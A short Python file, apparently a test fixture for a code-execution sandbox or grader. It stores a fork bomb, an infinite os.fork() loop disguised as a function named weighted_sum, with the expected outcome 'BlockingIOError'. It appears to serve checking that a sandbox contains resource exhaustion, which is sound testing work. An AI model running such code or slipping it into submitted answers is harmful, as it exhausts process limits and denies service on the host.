"""A fork bomb."""

ANSWER = """
import os
def weighted_sum(w, a, b):
    while True:
        os.fork()
"""
SAYS = "BlockingIOError"
